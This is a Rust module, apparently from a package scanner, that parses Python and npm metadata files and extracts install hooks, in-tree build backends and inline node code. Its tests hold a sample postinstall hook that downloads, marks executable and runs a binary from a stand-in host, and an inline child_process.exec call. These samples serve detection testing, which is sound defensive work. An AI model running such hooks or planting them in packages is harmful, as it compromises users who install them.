//! Package metadata from declarative files: PKG-INFO/METADATA, setup.cfg,
//! pyproject.toml, requirements*.txt, package.json.

use crate::model::Sink;
use regex::Regex;
use std::sync::LazyLock;

/// Add a dependency name (requirement specifiers, extras and markers stripped).
pub(crate) fn push_dep(deps: &mut Vec<String>, spec: &str) {
    let spec = spec.trim();
    if spec.is_empty() || spec.starts_with('#') || spec.starts_with('-') {
        return;
    }
    let end = spec
        .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.')))
        .unwrap_or(spec.len());
    let name = &spec[..end];
    if !name.is_empty() && !deps.iter().any(|d| d == name) && deps.len() < 500 {
        deps.push(name.to_string());
    }
}

fn set(slot: &mut Option<String>, v: &str) {
    let v = v.trim();
    if slot.is_none() && !v.is_empty() && v != "UNKNOWN" {
        *slot = Some(v.to_string());
    }
}

/// `PKG-INFO` / `METADATA` (RFC 822 style headers).
pub(crate) fn pkg_info(text: &str, sink: &mut Sink) {
    for line in text.lines() {
        if line.is_empty() {
            break; // body (long description) starts
        }
        let Some((k, v)) = line.split_once(':') else {
            continue;
        };
        match k.trim().to_ascii_lowercase().as_str() {
            "name" => set(&mut sink.name, v),
            "version" => set(&mut sink.version, v),
            "author" => set(&mut sink.author, v),
            "author-email" => set(&mut sink.author_email, v),
            "summary" => set(&mut sink.summary, v),
            "home-page" => set(&mut sink.homepage, v),
            "requires-dist" => push_dep(&mut sink.dependencies, v),
            _ => {}
        }
    }
}

/// `setup.cfg` `[metadata]` and `[options] install_requires`.
pub(crate) fn setup_cfg(text: &str, sink: &mut Sink) {
    let mut section = String::new();
    let mut in_requires = false;
    for line in text.lines() {
        let t = line.trim();
        if t.starts_with('[') && t.ends_with(']') {
            section = t[1..t.len() - 1].trim().to_string();
            in_requires = false;
            continue;
        }
        if t.is_empty() || t.starts_with('#') || t.starts_with(';') {
            continue;
        }
        let indented = line.starts_with([' ', '\t']);
        if indented && in_requires {
            push_dep(&mut sink.dependencies, t);
            continue;
        }
        in_requires = false;
        let Some((k, v)) = t.split_once('=') else {
            continue;
        };
        let k = k.trim();
        match (section.as_str(), k) {
            ("metadata", "name") => set(&mut sink.name, v),
            ("metadata", "version") if !v.contains("attr:") && !v.contains("file:") => {
                set(&mut sink.version, v)
            }
            ("metadata", "author") => set(&mut sink.author, v),
            ("metadata", "author_email") => set(&mut sink.author_email, v),
            ("metadata", "description") => set(&mut sink.summary, v),
            ("metadata", "url") => set(&mut sink.homepage, v),
            ("options", "install_requires" | "setup_requires") => {
                in_requires = true;
                for d in v.split(';') {
                    push_dep(&mut sink.dependencies, d);
                }
            }
            _ => {}
        }
    }
}

/// `pyproject.toml` `[project]` (PEP 621) and `[tool.poetry]`.
pub(crate) fn pyproject(text: &str, sink: &mut Sink) {
    let Ok(v) = text.parse::<toml::Table>() else {
        return;
    };
    let proj = v.get("project").and_then(|p| p.as_table());
    let poetry = v
        .get("tool")
        .and_then(|t| t.get("poetry"))
        .and_then(|p| p.as_table());
    for t in [proj, poetry].into_iter().flatten() {
        let s = |k: &str| t.get(k).and_then(|x| x.as_str()).unwrap_or("");
        set(&mut sink.name, s("name"));
        set(&mut sink.version, s("version"));
        set(&mut sink.summary, s("description"));
        set(&mut sink.homepage, s("homepage"));
        if let Some(authors) = t.get("authors").and_then(|a| a.as_array()) {
            for a in authors {
                if let Some(tb) = a.as_table() {
                    if let Some(n) = tb.get("name").and_then(|x| x.as_str()) {
                        set(&mut sink.author, n);
                    }
                    if let Some(e) = tb.get("email").and_then(|x| x.as_str()) {
                        set(&mut sink.author_email, e);
                    }
                } else if let Some(s) = a.as_str() {
                    set(&mut sink.author, s);
                }
            }
        }
        match t.get("dependencies") {
            Some(toml::Value::Array(a)) => {
                for d in a.iter().filter_map(|x| x.as_str()) {
                    push_dep(&mut sink.dependencies, d);
                }
            }
            Some(toml::Value::Table(tb)) => {
                for k in tb.keys().filter(|k| *k != "python") {
                    push_dep(&mut sink.dependencies, k);
                }
            }
            _ => {}
        }
    }
}

/// The in-tree build backend of a `pyproject.toml` (`build-backend` with `backend-path`,
/// PEP 517): the module's last dotted part, which the installer imports and whose hooks
/// it calls while building. `None` for backends that come from elsewhere (setuptools...).
pub(crate) fn in_tree_backend(text: &str) -> Option<String> {
    let v = text.parse::<toml::Table>().ok()?;
    let bs = v.get("build-system")?.as_table()?;
    bs.get("backend-path")?.as_array()?;
    let module = bs.get("build-backend")?.as_str()?;
    let module = module.split(':').next().unwrap_or(module);
    let last = module.rsplit('.').next().unwrap_or(module).trim();
    (!last.is_empty()).then(|| last.to_ascii_lowercase())
}

/// `requirements*.txt`.
pub(crate) fn requirements(text: &str, sink: &mut Sink) {
    for line in text.lines().take(1000) {
        push_dep(&mut sink.dependencies, line);
    }
}

/// `package.json`: metadata and dependencies; returns its install scripts.
pub(crate) fn package_json(text: &str, sink: &mut Sink) -> Vec<(String, String)> {
    let Ok(v) = serde_json::from_str::<serde_json::Value>(text) else {
        return damaged_package_json_hooks(text);
    };
    let s = |k: &str| v.get(k).and_then(|x| x.as_str()).unwrap_or("");
    set(&mut sink.name, s("name"));
    set(&mut sink.version, s("version"));
    set(&mut sink.summary, s("description"));
    set(&mut sink.homepage, s("homepage"));
    match v.get("author") {
        Some(serde_json::Value::String(a)) => set(&mut sink.author, a),
        Some(serde_json::Value::Object(o)) => {
            if let Some(n) = o.get("name").and_then(|x| x.as_str()) {
                set(&mut sink.author, n);
            }
            if let Some(e) = o.get("email").and_then(|x| x.as_str()) {
                set(&mut sink.author_email, e);
            }
        }
        _ => {}
    }
    for k in ["dependencies", "optionalDependencies"] {
        if let Some(o) = v.get(k).and_then(|x| x.as_object()) {
            for name in o.keys() {
                if !sink.dependencies.contains(name) && sink.dependencies.len() < 500 {
                    sink.dependencies.push(name.clone());
                }
            }
        }
    }
    let mut scripts = Vec::new();
    if let Some(o) = v.get("scripts").and_then(|x| x.as_object()) {
        for &k in INSTALL_HOOKS {
            if let Some(cmd) = o.get(k).and_then(|x| x.as_str()) {
                scripts.push((k.to_string(), cmd.to_string()));
            }
        }
    }
    scripts
}

/// The install hooks npm runs, by name.
const INSTALL_HOOKS: &[&str] = &[
    "preinstall",
    "install",
    "postinstall",
    "preuninstall",
    "prepare",
];

/// `"postinstall": "..."` pairs of a package.json that is not valid JSON (a damaged
/// sample, an archive cut short): its hooks are still what the author meant to run.
fn damaged_package_json_hooks(text: &str) -> Vec<(String, String)> {
    static HOOK: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r#""(preinstall|install|postinstall|preuninstall|prepare)"\s*:\s*("(?:[^"\\\n]|\\.)*")"#)
            .expect("static regex compiles")
    });
    HOOK.captures_iter(text)
        .filter_map(|c| {
            let cmd = serde_json::from_str::<String>(&c[2]).ok()?;
            Some((c[1].to_string(), cmd))
        })
        .collect()
}

/// The entry point package.json names (`main`, default `index.js`), without `./`, with
/// `.js` added when missing.
pub(crate) fn package_main(text: &str) -> String {
    let main = serde_json::from_str::<serde_json::Value>(text)
        .ok()
        .and_then(|v| v.get("main").and_then(|m| m.as_str()).map(str::to_string))
        .unwrap_or_else(|| "index.js".into());
    let main = main.trim_start_matches("./").to_string();
    if main.ends_with(".js") || main.ends_with(".cjs") || main.ends_with(".mjs") {
        main
    } else {
        format!("{}.js", main.trim_end_matches('/'))
    }
}

/// The code of `node -e "<code>"` (or `--eval`, `-p`) inside a script command.
pub(crate) fn inline_node_code(cmd: &str) -> Option<String> {
    let at = ["node -e ", "node --eval ", "node -p ", "node --print "]
        .iter()
        .find_map(|k| cmd.find(k).map(|i| i + k.len()))?;
    let rest = cmd[at..].trim_start();
    let quote = rest.chars().next()?;
    if quote != '"' && quote != '\'' {
        return Some(rest.to_string());
    }
    let mut out = String::new();
    let mut chars = rest[1..].chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' => out.extend(chars.next()),
            c if c == quote => break,
            c => out.push(c),
        }
    }
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn npm_entry_point_and_inline_code() {
        assert_eq!(package_main(r#"{"main": "./lib/index"}"#), "lib/index.js");
        assert_eq!(package_main("{}"), "index.js");
        assert_eq!(
            inline_node_code(r#"node -e "require('child_process').exec(\"id\")" && echo ok"#)
                .as_deref(),
            Some(r#"require('child_process').exec("id")"#)
        );
        assert_eq!(inline_node_code("node install.js"), None);
    }

    #[test]
    fn deps_strip_specifiers() {
        let mut d = Vec::new();
        push_dep(&mut d, "requests>=2.0; python_version>'3'");
        push_dep(&mut d, "numpy[extra]");
        push_dep(&mut d, "# comment");
        push_dep(&mut d, "-r other.txt");
        assert_eq!(d, vec!["requests", "numpy"]);
    }

    #[test]
    fn reads_declarative_files() {
        let mut s = Sink::default();
        pkg_info("Name: foo\nVersion: 1.0\nAuthor: A\n\nName: body", &mut s);
        setup_cfg(
            "[options]\ninstall_requires =\n    bar>1\n    baz\n",
            &mut s,
        );
        pyproject("[project]\nname='x'\ndependencies=['qux']\n", &mut s);
        assert_eq!(s.name.as_deref(), Some("foo"));
        assert_eq!(s.version.as_deref(), Some("1.0"));
        assert_eq!(s.dependencies, vec!["bar", "baz", "qux"]);
        let scripts = package_json(
            r#"{"name":"p","scripts":{"postinstall":"node x.js"},"dependencies":{"a":"1"}}"#,
            &mut s,
        );
        assert_eq!(scripts, vec![("postinstall".into(), "node x.js".into())]);
        assert!(s.dependencies.contains(&"a".to_string()));
        // Not valid JSON: its hooks are still read, escapes decoded; other keys are not.
        let damaged = r#"{"name": "p", "scripts": "test": "jest",
    "postinstall": "wget https://x.test/a.elf && chmod +x a.elf && ./a.elf \"q\" &""repository": {"#;
        assert_eq!(
            package_json(damaged, &mut Sink::default()),
            vec![(
                "postinstall".into(),
                r#"wget https://x.test/a.elf && chmod +x a.elf && ./a.elf "q" &"#.into()
            )]
        );
    }

    #[test]
    fn in_tree_backend_needs_backend_path() {
        let own = "[build-system]\nrequires=[]\nbuild-backend='_b.backend'\nbackend-path=['.']\n";
        assert_eq!(in_tree_backend(own).as_deref(), Some("backend"));
        let external =
            "[build-system]\nrequires=['setuptools']\nbuild-backend='setuptools.build_meta'\n";
        assert_eq!(in_tree_backend(external), None);
        assert_eq!(in_tree_backend("not toml ["), None);
    }
}
